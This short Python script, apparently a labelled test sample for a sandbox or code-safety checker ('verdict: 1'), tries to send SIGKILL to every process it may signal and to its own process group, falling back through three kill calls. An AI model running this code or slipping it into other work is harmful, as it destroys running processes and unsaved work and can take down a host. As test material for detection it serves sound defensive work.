# kills every process that it may, and its group
# verdict: 1
# ruff: noqa
import os
import signal

killed = []
for attempt in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(0, signal.SIGKILL)):
    try:
        attempt()
        killed.append(attempt)
    except OSError:
        pass
print(42 if not killed else killed)
